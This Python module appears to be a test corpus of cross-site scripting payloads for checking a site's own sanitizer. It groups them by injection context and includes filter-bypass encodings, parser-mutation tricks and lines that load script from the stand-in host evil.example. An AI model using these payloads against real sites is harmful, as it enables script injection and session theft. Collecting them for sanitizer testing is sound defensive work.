"""Markup and script that somebody may hide in an article, a name or a remark, by the place at which it would work.

Each tries to raise a dialog, to set ``window.owned``, or to leave an element or attribute that no page of ours has.
"""

TAG = r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script >alert(1)</script >
<script/x>alert(1)</script>
<script	src=data:,alert(1)></script>
<script src=//evil.example/a.js></script>
<script type=module>alert(1)</script>
<script type=text/javascript>alert(1)//</script>
<script>owned=1</script>
<script>window['al'+'ert'](1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>alert(1)<!--
<script async src="data:text/javascript,alert(1)"></script>
<script nomodule>alert(1)</script>
<script>Function('alert(1)')()</script>
<script>setTimeout`alert\x281\x29`</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src=x:x onerror="owned=1">
<IMG SRC=x ONERROR=alert(1)>
<img src='x' onerror='alert(1)'>
<img src=`x` onerror=alert(1)>
<img src onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<img src=x onerror=eval(atob('YWxlcnQoMSk='))>
<img src=x onerror=location='javascript:alert(1)'>
<img src=x onloadstart=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)>
<html onmouseover=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>
<iframe onload=alert(1)></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<applet code=a onerror=alert(1)></applet>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video onloadstart=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<audio onloadstart=alert(1) src=x></audio>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<button autofocus onfocus=alert(1)>x</button>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<details ontoggle=alert(1) open><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 onfinish=alert(1)>x</marquee>
<a autofocus tabindex=1 onfocus=alert(1)>x</a>
<div tabindex=0 autofocus onfocus=alert(1)>x</div>
<div contenteditable autofocus onfocus=alert(1)>x</div>
<x onanimationstart=alert(1) style=animation:x>x</x>
<x ontransitionend=alert(1)>x</x>
<frameset onload=alert(1)><frame></frameset>
<link rel=stylesheet href=x onerror=alert(1)>
<link rel=import href=data:text/html,<script>alert(1)</script>>
<link rel=prefetch href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<base href=//evil.example/>
<base href=javascript:/x/><a href=alert(1)>x</a>
<form action=javascript:alert(1)><input type=submit autofocus></form>
<form id=owned><input name=attributes></form>
<isindex type=image src=x onerror=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<slot onslotchange=alert(1)></slot>
<portal src=javascript:alert(1)></portal>
<fencedframe src=data:text/html,x></fencedframe>
<a href=# ping=//evil.example/ id=owned>x</a>
<div popover id=owned onbeforetoggle=alert(1)>x</div><button popovertarget=owned>x</button>
<p hx-get=/ hx-trigger=load hx-on::load=alert(1)>x</p>
<p hx-on:click=alert(1) data-hx-on-load=alert(1)>x</p>
<div hx-get="//evil.example/" hx-trigger="load" hx-ext="x">x</div>
"""

ATTRIBUTE = r"""
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)
' autofocus onfocus='alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
`><img src=x onerror=alert(1)>
x onmouseover=alert(1)
" onload="alert(1)" x="
" style="animation:x" onanimationstart="alert(1)
"/><svg/onload=alert(1)>
'/><svg/onload=alert(1)>
" srcdoc="<script>alert(1)</script>
" formaction="javascript:alert(1)
" href="javascript:alert(1)
" type=image src=x onerror="alert(1)
" data-hx-get="//evil.example/" hx-trigger="load
" hx-on::after-request="alert(1)
" accesskey="x" onclick="alert(1)
" contenteditable onfocus=alert(1) autofocus x="
" onpointerrawupdate=alert(1) x="
&quot; onmouseover=&quot;alert(1)
&#34; onmouseover=&#34;alert(1)
&#x22;&#x3e;&#x3c;img src=x onerror=alert(1)&#x3e;
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
%22%3E%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
"-alert(1)-"
'-alert(1)-'
\";alert(1);//
\';alert(1);//
</script><script>alert(1)</script>
</script><svg onload=alert(1)>
{"@type":"</script><script>alert(1)</script>"}
*/alert(1)/*
${alert(1)}
{{alert(1)}}
{{constructor.constructor('alert(1)')()}}
{% debug %}{{ request }}
{% load static %}{% include "admin/base.html" %}
<%= 7*7 %><% alert(1) %>
#{alert(1)}
[[alert(1)]]
"><details open ontoggle=alert(1)>
" tabindex=1 onfocusin=alert(1) autofocus x="
" onbeforematch=alert(1) hidden=until-found x="
"""

URL = r"""
<a href=javascript:alert(1) autofocus>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;&#x61;vascript:alert(1)">x</a>
<a href="javascript:%61lert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="javascript:/*--></title></style></script>*/alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>">x</a>
<a href="blob:null/alert(1)">x</a>
<a href="//evil.example/" target=_blank rel=opener>x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="jar:javascript:alert(1)!/x">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<area href=javascript:alert(1) shape=default>
<map name=owned><area href="javascript:alert(1)"></map><img usemap=#owned>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)" autofocus>x</button>
<input type=submit formaction=javascript:alert(1)>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="data:text/html,<script>alert(1)</script>">x</q>
javascript:alert(1)
JAVASCRIPT:alert(document.domain)
 javascript:alert(1)
data:text/html,<script>alert(1)</script>
[x](javascript:alert(1))
[x](javascript:alert(1) "onmouseover=alert(1)")
![x](x" onerror="alert(1))
<javascript:alert(1)>
http://a.example/"onmouseover="alert(1)
http://a.example/<script>alert(1)</script>
https://a.example/'onclick='alert(1)
https://a.example/?q="><img src=x onerror=alert(1)>
"""

STYLE = r"""
<style>@import'//evil.example/x.css';</style>
<style>*{background:url(//evil.example/)}</style>
<style>body{display:none}</style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>
<style></style><script>alert(1)</script>
<style><img src="</style><img src=x onerror=alert(1)//">
<style onload=alert(1)></style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="-moz-binding:url(//evil.example/x.xml#a)">x</div>
<div style="position:fixed;inset:0;background:red">x</div>
<div style=--x:url(//evil.example/)>x</div>
<b style='color:red' class=owned>x</b>
<table background="javascript:alert(1)"><td>x</table>
<td background=//evil.example/x.png>x
<link rel=stylesheet href="data:text/css,*{color:red}">
<link href=//evil.example/x.css rel="alternate stylesheet" title=x>
</style><script>alert(1)</script>
}</style><script>alert(1)</script>
*{}</style><img src=x onerror=alert(1)>
"""

SVG = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>alert&lpar;1&rpar;</script></svg>
<svg><script xlink:href=data:,alert(1)></script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><a href=javascript:alert(1)><circle r=40 /></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><a><animate attributeName=href from=javascript:alert(1) to=1 /><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1) /></svg>
<svg><set onbegin=alert(1) attributename=x></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'><image href=1 onerror='alert(1)'/></svg>#x"/></svg>
<svg><use xlink:href=//evil.example/x.svg#x /></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><image xlink:href="javascript:alert(1)"></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style>*{x:url(javascript:alert(1))}</style></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><discard onbegin=alert(1)></svg>
<svg><animateTransform onbegin=alert(1) attributeName=transform></svg>
<svg><feImage href="javascript:alert(1)"/></svg>
<svg><handler type=text/javascript>alert(1)</handler></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
"""

MATHML = r"""
<math href=javascript:alert(1)>x</math>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><script>alert(1)</script></mtext></math>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg onload=alert(1)></annotation-xml></math>
<math><maction actiontype="statusline#http://evil.example" xlink:href=javascript:alert(1)>x</maction></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><style><img src=x onerror=alert(1)></style></math>
<math><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>
<math><semantics><annotation-xml><iframe src=javascript:alert(1)></annotation-xml></semantics></math>
<math onclick=alert(1)><mi>x</mi></math>
"""

TEMPLATE = r"""
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<div><template shadowrootmode=closed><script>alert(1)</script></template></div>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noscript><img src=x onerror=alert(1)></noscript>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
</textarea><script>alert(1)</script>
<title><img title="</title><img src=x onerror=alert(1)>">
</title><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
<!--><script>alert(1)</script>
<!-- --!><img src=x onerror=alert(1)>
--><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<![><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<?php echo '<script>alert(1)</script>' ?>
<? foo="><script>alert(1)</script>">
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<% foo><x foo="%><script>alert(1)</script>">
"""

MUTATION = r"""
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<math><p><style><img src=x onerror=alert(1)></style></p></math>
<noscript><style></noscript><img src=x onerror=alert(1)>
<table><caption><svg><title></caption><img src=x onerror=alert(1)></table>
<table><tr><td><svg><desc><td><script>alert(1)</script></table>
<select><template><img src=x onerror=alert(1)></template></select>
<select><style></select><img src=x onerror=alert(1)>
<option><iframe></select><b><script>alert(1)</script>
<p><svg><a></p><script>alert(1)</script></svg>
<svg><foreignobject><p><style><p title="</style><iframe onload=alert(1)></iframe>"></style>
<a id=owned><a id=owned name=x href=javascript:alert(1)>x</a>
<form id=owned tabindex=0 onfocus=alert(1)><input name=parentNode><input id=nodeName></form>
<img name=getElementById><img name=cookie>
<b/<img src=x onerror=alert(1)>
<b <script>alert(1)</script>0
<img src="x` `<script>alert(1)</script>"` `>
<div id="<!--"><p title="--><img src=x onerror=alert(1)>">
<x/x=&#62;<img/src/onerror=alert(1)&#62;
<a b='<c d="'><img src=x onerror=alert(1)>">
<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>
<style><!--</style><script>alert(1)//--></script>
<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
<img/alt="`><img src=x onerror=alert(1)>"/>
<b>x</b><i><b><i></b><script>alert(1)</script></i>
"""

CONTEXTS = {
    "tag": TAG,
    "attribute": ATTRIBUTE,
    "URL": URL,
    "style": STYLE,
    "SVG": SVG,
    "MathML": MATHML,
    "template": TEMPLATE,
    "mutation": MUTATION,
}
"""By context, one a line."""

ODD = (
    '<img """><script>alert(1)</script>">',
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "\u202e<script>alert(1)</script>\u202c",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<svg\u2028onload=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href='java\u00adscript:alert(1)'>x</a>",
)
"""With characters that a text file cannot show."""

PAYLOADS: tuple[str, ...] = (*(line for text in CONTEXTS.values() for line in text.strip("\n").split("\n")), *ODD)
